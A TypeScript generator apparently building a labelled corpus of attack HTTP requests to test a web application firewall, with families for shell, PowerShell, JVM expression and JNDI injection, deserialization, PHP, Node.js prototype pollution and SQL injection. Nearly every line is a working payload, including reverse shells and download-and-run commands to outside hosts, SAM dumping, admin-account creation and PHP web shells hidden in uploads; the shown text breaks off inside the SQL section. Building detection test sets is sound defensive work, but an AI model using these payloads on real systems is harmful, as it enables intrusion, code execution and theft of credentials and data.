/**
 * Blind attack set 7 (session 36, at36): issue 14's attack families, plus XXE, SSTI, NoSQL, LDAP/XPath and path
 * traversal, written by hand from knowledge of each class (no payload list), weighted toward set 6's weak
 * families (session fixation and cookie injection, open redirects, SSRF address notations, sensitive files).
 * Each request is placed where an attacker puts it in a realistic request of a realistic application (query,
 * form, nested JSON and arrays, XML and SOAP, multipart fields, file names and archives, headers, cookies, path
 * segments, GraphQL variables) and evaded as attackers evade (percent, double-percent and overlong encodings,
 * HTML entities, JSON and JS escapes, base64 where the application decodes it, gzip-compressed bodies, case,
 * comments, whitespace substitutes, values split across parameters).
 * Written and committed before anything was measured on it (DEVELOPERS.md, "Blind sets").
 *
 *   npx tsx datasets/blind-probes/set-7.ts > datasets/blind-probes/set-7.ndjson
 *   warden eval --per-request --corpus datasets/blind-probes/set-7.ndjson
 *
 * Records: `source: blind-7`, `label: attack`, `category: <family>`, ids `bp7/<family>/<n>`.
 */
import { crc32, gzipSync } from 'node:zlib';
import type { RequestRecord } from '../../src/eval/record.js';

const HOST = 'portal.example.test';
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'curl/8.11.0',
  'python-httpx/0.27.2',
  'axios/1.7.7',
  'Java/17.0.12',
  'PostmanRuntime/7.42.0',
  'Go-http-client/1.1',
];

const records: RequestRecord[] = [];
const counters = new Map<string, number>();

/** Percent-encodes as a browser's form or a client library does; `strict` also takes `!'()*`. */
function enc(text: string, strict = false): string {
  const e = encodeURIComponent(text);
  return strict ? e.replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`) : e;
}
const formEnc = (text: string): string => enc(text, true).replace(/%20/g, '+');
const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');
const b64url = (text: string | Buffer): string => b64(text).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
const b64utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
/** Every character as \uXXXX, as a JSON encoder told to escape everything writes it. */
const uEsc = (text: string): string => [...text].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
/** Every character as a hex HTML/XML character reference. */
const ent = (text: string): string => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
/** Every byte percent-encoded, letters and digits too (an over-encoding client). */
const pctAll = (text: string): string => [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

interface Opts {
  headers?: Record<string, string>;
  ua?: string;
}

function push(category: string, method: string, path: string, query: string, body: string | Buffer | undefined, opts: Opts & { ctype?: string } = {}): void {
  const n = counters.get(category) ?? 0;
  counters.set(category, n + 1);
  const headers: Record<string, string> = {
    Host: HOST,
    'User-Agent': opts.ua ?? UAS[(records.length * 5) % UAS.length],
    Accept: 'application/json, text/plain, */*',
    'Accept-Language': 'en-GB,en;q=0.8',
  };
  if (opts.ctype) headers['Content-Type'] = opts.ctype;
  Object.assign(headers, opts.headers ?? {});
  const r: RequestRecord = { id: `bp7/${category}/${n}`, source: 'blind-7', label: 'attack', category, method, path, query, headers };
  if (typeof body === 'string') r.body = body;
  else if (body !== undefined) {
    r.body = body.toString('base64');
    r.bodyEncoding = 'base64';
  }
  records.push(r);
}

/** GET with the query built from pairs; a value given as [raw] is sent as written (its writer encoded it). */
function q(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const query = pairs.map(([k, v]) => `${enc(k)}=${Array.isArray(v) ? v[0] : enc(v)}`).join('&');
  push(cat, 'GET', path, query, undefined, opts);
}
function form(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const body = pairs.map(([k, v]) => `${formEnc(k)}=${Array.isArray(v) ? v[0] : formEnc(v)}`).join('&');
  push(cat, 'POST', path, '', body, { ...opts, ctype: 'application/x-www-form-urlencoded' });
}
function json(cat: string, path: string, doc: unknown, opts: Opts & { method?: string; ctype?: string } = {}): void {
  const body = typeof doc === 'string' ? doc : JSON.stringify(doc);
  push(cat, opts.method ?? 'POST', path, '', body, { ...opts, ctype: opts.ctype ?? 'application/json' });
}
/** A JSON or form body sent gzip-compressed with `Content-Encoding: gzip`, as mobile SDKs and beacons send them. */
function gz(cat: string, path: string, text: string, ctype: string, opts: Opts = {}): void {
  push(cat, 'POST', path, '', gzipSync(Buffer.from(text, 'utf8')), { ...opts, ctype, headers: { ...(opts.headers ?? {}), 'Content-Encoding': 'gzip' } });
}
function gql(cat: string, query: string, variables: Record<string, unknown>, opts: Opts = {}): void {
  push(cat, 'POST', '/graphql', '', JSON.stringify({ operationName: null, query, variables }), { ...opts, ctype: 'application/json' });
}
function xml(cat: string, path: string, text: string | Buffer, opts: Opts & { ctype?: string } = {}): void {
  push(cat, 'POST', path, '', text, { ...opts, ctype: opts.ctype ?? 'application/xml' });
}
interface Part { name: string; filename?: string; type?: string; content: string | Buffer }
function mp(cat: string, path: string, parts: Part[], opts: Opts = {}): void {
  const b = '----WebKitFormBoundaryAt36s7Pq4Xw';
  const chunks: Buffer[] = [];
  let binary = false;
  for (const p of parts) {
    const disp = `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    chunks.push(Buffer.from(`--${b}\r\n${disp}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`, 'utf8'));
    if (Buffer.isBuffer(p.content)) binary = true;
    chunks.push(Buffer.isBuffer(p.content) ? p.content : Buffer.from(p.content, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${b}--\r\n`));
  const all = Buffer.concat(chunks);
  push(cat, 'POST', path, '', binary ? all : all.toString('utf8'), { ...opts, ctype: `multipart/form-data; boundary=${b}` });
}
function hdr(cat: string, path: string, headers: Record<string, string>, query = ''): void {
  push(cat, 'GET', path, query, undefined, { headers, ua: headers['User-Agent'] });
}
function get(cat: string, path: string, query = '', opts: Opts = {}): void {
  push(cat, 'GET', path, query, undefined, opts);
}
/** A zip archive of stored (uncompressed) entries, as a plugin, theme or document upload carries it. */
function zip(entries: [string, string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const nameB = Buffer.from(name, 'utf8');
    const data = Buffer.from(text, 'utf8');
    const crc = crc32(data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0); lh.writeUInt16LE(20, 4); lh.writeUInt16LE(0, 6); lh.writeUInt16LE(0, 8);
    lh.writeUInt16LE(0, 10); lh.writeUInt16LE(0x5921, 12); lh.writeUInt32LE(crc, 14); lh.writeUInt32LE(data.length, 18);
    lh.writeUInt32LE(data.length, 22); lh.writeUInt16LE(nameB.length, 26); lh.writeUInt16LE(0, 28);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0); ch.writeUInt16LE(20, 4); ch.writeUInt16LE(20, 6); ch.writeUInt16LE(0, 8); ch.writeUInt16LE(0, 10);
    ch.writeUInt16LE(0, 12); ch.writeUInt16LE(0x5921, 14); ch.writeUInt32LE(crc, 16); ch.writeUInt32LE(data.length, 20);
    ch.writeUInt32LE(data.length, 24); ch.writeUInt16LE(nameB.length, 28); ch.writeUInt32LE(offset, 42);
    locals.push(lh, nameB, data);
    centrals.push(ch, nameB);
    offset += 30 + nameB.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

// ---------------------------------------------------------------- shell: expansion and quoting tricks, argument injection, one-liners
{
  const c = 'shell';
  q(c, '/api/dns/lookup', [['domain', "example.org;$(printf${IFS}'\\x69\\x64')"]]);
  form(c, '/admin/network/ping', [['host', '10.0.0.1\n$(curl${IFS}-s${IFS}203.0.113.14|sh)']]);
  json(c, '/api/v2/monitors', { monitor: { kind: 'tcp', target: 'db.internal\n`wget -qO- 203.0.113.15/s|sh`' } });
  q(c, '/cgi-bin/status.cgi', [['dev', 'eth0;${PATH:0:1}bin${PATH:0:1}cat${IFS}${PATH:0:1}etc${PATH:0:1}shadow']]);
  q(c, '/api/net/whois', [['q', "example.org;c'a't</etc/passwd"]]);
  form(c, '/admin/tools/archive', [['name', 'logs;{echo,aWQ7dW5hbWUgLWE=}|{base64,-d}|{bash,-i}']]);
  q(c, '/api/calc/shell', [['n', ['1%3Becho%20%24((1337*7331))']]]);
  json(c, '/api/jobs/schedule', { job: { cmd: 'backup', args: ['x;a=/etc/pass;b=wd;cat $a$b'] } });
  form(c, '/admin/diag', [['iface', "lo;$'\\x63\\x61\\x74' $'\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'"]]);
  q(c, '/api/net/ping', [['ip', '127.0.0.1;/???/??t${IFS}/???/p??s??']]);
  q(c, '/api/net/ping', [['ip', '127.0.0.1|echo 6964|xxd -r -p|sh']]);
  form(c, '/admin/diag', [['iface', "eth1;$(tr 'a-z' 'n-za-m'<<<'vq')"]]);
  mp(c, '/api/scripts/test', [{ name: 'hook', content: "x;perl -e 'system(pack(qq,H*,,qq,6964,))'" }, { name: 'lang', content: 'perl' }]);
  gz(c, '/api/v1/telemetry/exec', JSON.stringify({ device: 'sensor-4', action: { run: 'python3 -c \'import os;print(os.popen("id").read())\'' } }), 'application/json');
  form(c, '/admin/tools/exec', [['arg', "x|ruby -rsocket -e 'c=TCPSocket.new(\"203.0.113.16\",4444);$stdin.reopen(c);$stdout.reopen(c);exec \"/bin/sh -i\"'"]]);
  hdr(c, '/dashboard', { Cookie: 'region=eu-west-1`id`; theme=dark' });
  hdr(c, '/cgi-bin/test.cgi', { 'User-Agent': '() { _; } >_[$($())] { echo; /usr/bin/id; }' });
  get(c, '/api/v1/printers/lp0%60id%60/status');
  q(c, '/api/net/ping', [['ip', ['8.8.8.8%257Cid']]]);
  xml(c, '/rpc/diag', '<?xml version="1.0"?><diag><host>example.org&#10;id</host><count>3</count></diag>');
  gql(c, 'mutation Sync($dir: String!) { storage { sync(dir: $dir) { ok } } }', { dir: '/tmp/x && busybox nc 203.0.113.18 4444 -e sh' });
  q(c, '/api/net/traceroute', [['target', "x|ba\\sh -c 'i\\d'"]]);
  form(c, '/admin/backup/create', [['cmd', 'tar'], ['opt', '--checkpoint=1'], ['opt', '--checkpoint-action=exec=sh /tmp/x.sh']]);
  json(c, '/api/repos/import', { url: '--upload-pack=touch /tmp/pwned', branch: 'main' });
  q(c, '/api/logs/grep', [['pattern', "x|awk 'BEGIN{print \"id\"|\"sh\"}'"]]);
  form(c, '/api/files/compress', [['files', 'a.txt'], ['flags', "-T -TT 'sh -c id'"]]);
}

// ---------------------------------------------------------------- PowerShell and Windows cmd
{
  const c = 'windows';
  form(c, '/admin/run', [['arg', `x;powershell -nop -ec ${b64utf16('Get-LocalUser | ConvertTo-Json')}`]]);
  q(c, '/tools/ping', [['host', '127.0.0.1|powershell -c "IEX(IWR -UseBasicParsing http://203.0.113.41/a.ps1)"']]);
  json(c, '/api/agents/task', { task: { cmd: "&(\"{1}{0}\" -f 'ex','i') (\"{0}{1}\" -f 'whoa','mi')" } });
  form(c, '/admin/run', [['arg', "x; [ScriptBlock]::Create((New-Object IO.StreamReader((New-Object Net.WebClient).OpenRead('http://203.0.113.42/b'))).ReadToEnd()).Invoke()"]]);
  q(c, '/tools/ping', [['host', '127.0.0.1 & %COMSPEC% /c whoami /all']]);
  form(c, '/admin/run', [['arg', 'x|cmd.exe /v:on /c "set a=who&&set b=ami&&call !a!!b!"']]);
  form(c, '/admin/run', [['arg', 'x & c^m^d /c w^h^o^a^m^i']]);
  q(c, '/tools/resolve', [['n', 'x & mshta http://203.0.113.43/a.hta']]);
  json(c, '/api/reports/print', { printer: 'x & rundll32.exe \\\\203.0.113.44\\s\\p.dll,Start' });
  form(c, '/admin/run', [['arg', 'x & bitsadmin /transfer j /download /priority high http://203.0.113.45/a.exe %TEMP%\\a.exe']]);
  q(c, '/tools/ping', [['host', '127.0.0.1 && reg save HKLM\\SAM C:\\Users\\Public\\sam.save']]);
  form(c, '/admin/run', [['arg', 'x; powershell Add-MpPreference -ExclusionPath C:\\']]);
  json(c, '/api/automation/steps', { steps: [{ shell: 'pwsh', run: `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64('whoami; hostname')}')))` }] });
  form(c, '/admin/run', [['arg', "x; $ExecutionContext.InvokeCommand.InvokeScript('whoami')"]]);
  q(c, '/tools/ping', [['host', '127.0.0.1; Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList calc.exe']]);
  form(c, '/admin/run', [['arg', 'x | certutil -urlcache -split -f http://203.0.113.46/a.exe a.exe']]);
  q(c, '/tools/resolve', [['n', "x & FOR /F \"tokens=*\" %i IN ('whoami') DO nslookup %i.oast.example"]]);
  json(c, '/api/devices/rename', { device: { name: 'ws-17', hooks: { post: '%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c "irm 203.0.113.47|iex"' } } });
  form(c, '/admin/run', [['arg', "x; .($shellid[1]+$shellid[13]+'x') (irm 203.0.113.48)"]]);
  q(c, '/tools/ping', [['host', ['127.0.0.1%26cmd%20%2Fc%20%22who%22%5E%22ami%22']]]);
  hdr(c, '/api/status', { 'X-Printer-Name': 'HP-4 & powershell -version 2 -nop -c "Get-Process | Out-File C:\\inetpub\\wwwroot\\p.txt"' });
  gz(c, '/api/v1/agents/heartbeat', 'id=ws-22&status=ok&post_cmd=' + formEnc('cmd /c "net user svc P@ssw0rd1 /add && net localgroup administrators svc /add"'), 'application/x-www-form-urlencoded');
}

// ---------------------------------------------------------------- JVM: OGNL, SpEL, EL, Groovy, JNDI, reflection and gadget classes
{
  const c = 'jvm';
  mp(c, '/struts2/fileupload.action', [{ name: 'upload', filename: "%{(#x='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#o=@org.apache.struts2.ServletActionContext@getResponse().getWriter()).(#o.println(@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream()))).(#o.flush())}\u0000b", type: 'text/plain', content: 'x' }]);
  q(c, '/struts2/index.action', [['redirectAction:${#a=new java.lang.ProcessBuilder(new java.lang.String[]{"id"}).start()}', '']]);
  get(c, `/${enc('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Out",#a))}')}/`);
  form(c, '/pages/createpage-entervariables.action', [['queryString', 'x\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022java.lang.Runtime\\u0022).getMethod(\\u0022getRuntime\\u0022,null).invoke(null,null).exec(\\u0022id\\u0022)}+\\u0027']]);
  push(c, 'POST', '/functionRouter', '', 'hello', { ctype: 'text/plain', headers: { 'spring.cloud.function.routing-expression': 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/sp")' } });
  form(c, '/app/register', [['class.module.classLoader.resources.context.parent.pipeline.first.pattern', '%{c2}i if("j".equals(request.getParameter("pwd"))){ }'], ['class.module.classLoader.resources.context.parent.pipeline.first.suffix', '.jsp']]);
  form(c, '/jsf/search.xhtml', [['term', "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval(\"java.lang.Runtime.getRuntime().exec('id')\")}"]]);
  q(c, '/api/preview', [['expr', '#{T(java.lang.Runtime).getRuntime().exec(new java.lang.String(new byte[]{105,100}))}']]);
  json(c, '/api/rules/evaluate', { rule: { condition: 'T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))' } });
  form(c, '/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript', [['sandbox', 'true'], ['value', '@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec("id")})\ndef x']]);
  hdr(c, '/', { 'User-Agent': '${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.73/a}' });
  hdr(c, '/api/login', { 'X-Request-Id': '${jndi:ldap://127.0.0.1#203.0.113.74:1389/b}' });
  json(c, '/api/v1/audit', `{"action":"view","note":"\\u0024\\u007bjndi:ldap://203.0.113.75/c}"}`);
  xml(c, '/ws/customer', '<?xml version="1.0"?><customer name="${${lower:J}${lower:N}${lower:D}${lower:I}:dns://x.oast.example/d}"><id>7</id></customer>');
  hdr(c, '/api/products', { Accept: '${jndi:iiop://203.0.113.76/e}' });
  mp(c, '/api/support/ticket', [{ name: 'subject', content: 'printer' }, { name: 'body', content: '${${env:NOPE:-j}${env:NOPE:-n}${env:NOPE:-d}${env:NOPE:-i}:ldap://203.0.113.77/f}' }]);
  json(c, '/api/widgets', '["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM \'http://203.0.113.78/a.sql\'"}]');
  json(c, '/api/widgets', '{"a":{"@type":"java.net.Inet4Address","val":"x.oast.example"}}');
  json(c, '/api/widgets', '{"\\x40\\x74ype":"org.apache.shiro.jndi.JndiObjectFactory","resourceName":"ldap://203.0.113.79/g"}');
  xml(c, '/wls-wsat/CoordinatorPortType', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>', { ctype: 'text/xml' });
  form(c, '/api/config/yaml', [['doc', 'x: !<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> [[!<tag:yaml.org,2002:java.net.URL> ["http://203.0.113.80/"]]]]']]);
  json(c, '/api/datasources', { name: 'reporting', driver: 'mysql', url: 'jdbc:mysql://203.0.113.81:3306/test?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&user=r' });
  json(c, '/actuator/env', { name: 'spring.datasource.hikari.connection-test-query', value: "CREATE ALIAS EXEC AS CONCAT('String e(String c) throws java.io.IOException { java.util.Scanner s = new',' java.util.Scanner(Runtime.getRun','time().exec(c).getInputStream()); return s.hasNext() ? s.next() : null; }');CALL EXEC('id');" });
  gql(c, 'query Q($f: String!) { report(formula: $f) { value } }', { f: "''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')" });
}

// ---------------------------------------------------------------- serialized objects: Java, .NET, PHP, Python, Ruby
{
  const c = 'serialized';
  const str = (s: string): Buffer => Buffer.concat([Buffer.from([(s.length >> 8) & 0xff, s.length & 0xff]), Buffer.from(s, 'latin1')]);
  const javaPQ = Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), str('java.util.PriorityQueue'), Buffer.from([0x94, 0xda, 0x30, 0xb4, 0xfb, 0x3f, 0x82, 0xb1, 0x03, 0x00, 0x02, 0x49, 0x00, 0x04]), Buffer.from('size', 'latin1'), Buffer.from([0x4c, 0x00, 0x0a]), Buffer.from('comparator', 'latin1'), Buffer.from([0x74]), str('Ljava/util/Comparator;'), Buffer.from([0x78, 0x70, 0x00, 0x00, 0x00, 0x02, 0x73, 0x72]), str('org.apache.commons.collections4.comparators.TransformingComparator')]);
  form(c, '/app/flow', [['execution', 'e2s1'], ['state', gzipSync(javaPQ).toString('base64')]]);
  hdr(c, '/api/session/resume', { 'X-Session-State': javaPQ.toString('base64') });
  const losHead = Buffer.concat([Buffer.from([0xff, 0x01, 0x32, 0xe8, 0x07, 0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c, 0x02, 0x00, 0x00, 0x00, 0x49]), Buffer.from('System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'latin1'), Buffer.from([0x05, 0x01, 0x00, 0x00, 0x00, 0x84, 0x01]), Buffer.from('System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]', 'latin1'), Buffer.from('System.Diagnostics.Process Start cmd /c whoami', 'latin1')]);
  form(c, '/Default.aspx', [['__VIEWSTATE', losHead.toString('base64')], ['__VIEWSTATEGENERATOR', 'CA0B0334'], ['__EVENTVALIDATION', '']]);
  json(c, '/api/import/settings', '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c whoami"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}');
  xml(c, '/Services/Import.svc', '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:s="clr-namespace:System;assembly=mscorlib" xmlns:d="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="x" ObjectType="{x:Type d:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c calc</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>', { ctype: 'text/xml' });
  hdr(c, '/cart', { Cookie: `cart=${enc('O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\0*\0events";O:15:"Faker\\Generator":1:{s:13:"\0*\0formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\0*\0event";s:2:"id";}')}; lang=en` });
  q(c, '/profile/load', [['data', 'O:+8:"Template":1:{s:4:"file";s:17:"/var/www/shell.php";}']]);
  json(c, '/api/ml/predict', { model: 'churn', state: b64("cposix\nsystem\np0\n(S'curl 203.0.113.90|sh'\np1\ntp2\nRp3\n.") });
  push(c, 'POST', '/api/gems/config', '', '--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: "abc"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module \'Kernel\'\n               method_id: :system\n           git_set: id\n       method_id: :resolve\n', { ctype: 'application/x-yaml' });
  xml(c, '/api/soap/restore', `<?xml version="1.0"?><Envelope><Body><restore><hex>0x${javaPQ.toString('hex')}</hex></restore></Body></Envelope>`);
  hdr(c, '/account', { Cookie: `remember=${enc(javaPQ.toString('base64'))}` });
}

// ---------------------------------------------------------------- PHP
{
  const c = 'php';
  mp(c, '/upload/avatar', [{ name: 'avatar', filename: 'pic.phtml', type: 'image/gif', content: 'GIF89a;<?=`$_GET[0]`?>' }]);
  mp(c, '/upload/avatar', [{ name: 'avatar', filename: '.user.ini', type: 'image/png', content: 'auto_prepend_file=/var/www/uploads/pic.gif\n' }]);
  q(c, '/index.php', [['page', 'php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.UTF16.UTF16|convert.base64-decode/resource=php://temp']]);
  q(c, '/index.php', [['file', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==']]);
  q(c, '/index.php', [['page', 'expect://id']]);
  q(c, '/view.php', [['template', 'phar://uploads/avatars/7.jpg/x']]);
  form(c, '/admin/plugins/eval', [['code', "$a='sys'.'tem';$a('id');"]]);
  form(c, '/admin/theme/save', [['code', "call_user_func_array('assert', array($_REQUEST['x']));"]]);
  q(c, '/debug.php', [['e', '(sy.(st).em)(whoami);']]);
  form(c, '/comment', [['body', '<?php $_="{";$_=($_^"<").($_^">;").($_^"/");${$_}[_](${$_}[__]); ?>']]);
  form(c, '/admin/theme/save', [['code', "mb_ereg_replace('.*', $_GET['c'], '', 'e');"]]);
  q(c, '/index.php', [['page', 'http://203.0.113.81/shell.txt?']]);
  mp(c, '/upload/photo', [{ name: 'photo', filename: 'holiday.jpg', type: 'image/jpeg', content: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0x00, 0x40]), Buffer.from('Exif\0\0', 'latin1'), Buffer.from("<?php system($_GET['c']); __halt_compiler();", 'latin1'), Buffer.from([0xff, 0xd9])]) }]);
  push(c, 'POST', '/php-cgi/php-cgi.exe', '%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input', '<?php echo shell_exec("whoami"); ?>', { ctype: 'application/x-www-form-urlencoded' });
  json(c, '/_ignition/execute-solution', { solution: 'Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution', parameters: { variableName: 'x', viewFile: 'phar:///var/www/storage/logs/laravel.log/test.txt' } });
  hdr(c, '/index.php', { Cookie: `debug=${enc("assert(base64_decode('c3lzdGVtKCJpZCIpOw=='))")}` });
  form(c, '/admin/widgets', [['content', "eval(str_replace('x','','bxaxsxex6x4x_xdxexcxoxdxe')($_POST['p']));"]]);
}

// ---------------------------------------------------------------- Node.js, server-side JS, prototype pollution
{
  const c = 'node';
  json(c, '/api/calc', { expr: "global['proc'+'ess']['mainMod'+'ule']['req'+'uire']('child_'+'process')['ex'+'ecSync']('id')" });
  q(c, '/api/calc', [['expr', "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:1}]})"]]);
  json(c, '/api/rules/test', { rule: { script: "import('child_process').then(m=>m.execSync('id'))" } });
  form(c, '/api/report/formula', [['f', "eval('\\x72\\x65\\x71\\x75\\x69\\x72\\x65(\"child_process\").exec(\"id\")')"]]);
  json(c, '/api/calc', { expr: 'eval(String.fromCharCode(114,101,113,117,105,114,101,40,39,102,115,39,41,46,114,101,97,100,70,105,108,101,83,121,110,99,40,39,47,101,116,99,47,112,97,115,115,119,100,39,41))' });
  get(c, '/api/products', '%255F%255Fproto%255F%255F%5BisAdmin%5D=true&page=2');
  json(c, '/api/cart/merge', '{"items":[{"sku":"A-1","qty":1},{"__proto__":{"isAdmin":true,"discount":100}}]}');
  json(c, '/api/users/me/preferences', '{"user":{"prefs":{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}}}');
  json(c, '/api/objects/set', { path: 'constructor.prototype.outputFunctionName', value: "x;process.mainModule.require('child_process').execSync('id');s" });
  json(c, '/api/templates/render', '{"name":"invoice","__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}');
  json(c, '/api/calc', { expr: "this.constructor.constructor`return process.mainModule.require('child_process').execSync('id')`()" });
  q(c, '/api/calc', [['expr', "[]['filter']['constructor']('return process')().env"]]);
  gql(c, 'query R($p: String!) { readDoc(path: $p) }', { p: "require('fs').readFileSync('/etc/passwd','utf8')" });
  json(c, '/api/sandbox/run', '{"code":"require(\\"\\\\u0063hild_process\\").execSync(\\"id\\")"}');
  json(c, '/api/sandbox/run', { code: "Error.prepareStackTrace=(e,f)=>f[0].getThis().constructor.constructor('return process')();const p=new Error().stack;p.mainModule.require('child_process').execSync('id')" });
  form(c, '/account/settings', [['name', 'eve'], ['constructor[prototype][role]', 'admin']]);
  hdr(c, '/api/session', { Cookie: `session=${enc('j:{"user":"eve","__proto__":{"isAdmin":true}}')}` });
}

// ---------------------------------------------------------------- SQL without the usual keywords or in unusual places
{
  const c = 'sqli';
  q(c, '/products', [['id', '5 RLIKE (SELECT (CASE WHEN (ORD(MID(USER(),1,1))>100) THEN 1 ELSE 0x28 END))']]);
  q(c, '/products', [['id', '(5)and(2)=(2)']]);
  q(c, '/search', [['q', "phone'||pg_sleep(5)--"]]);
  q(c, '/products', [['sort', "(CASE WHEN (SUBSTR(current_user,1,1)='p') THEN price ELSE name END)"]]);
  form(c, '/api/report', [['id', "1;DECLARE @q varchar(99);SET @q='\\\\203.0.113.91\\x';EXEC master.dbo.xp_dirtree @q"]]);
  q(c, '/products', [['id', "5 AND 1=UTL_HTTP.REQUEST('http://203.0.113.92/'||(SELECT user FROM dual))"]]);
  q(c, '/products', [['id', '5 AND 1=UTL_INADDR.get_host_address((SELECT banner FROM v$version WHERE rownum=1))']]);
  q(c, '/notes', [['id', '5 AND unicode(substr(sqlite_version(),1,1))>50']]);
  q(c, '/products', [['id', '5 AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))']]);
  q(c, '/products', [['id', ['5%26%26(select%0Bsubstr(%40%40version%2C1%2C1))%3D8']]]);
  q(c, '/products', [['id', '5 ＵＮＩＯＮ ＳＥＬＥＣＴ 1,2,3']]);
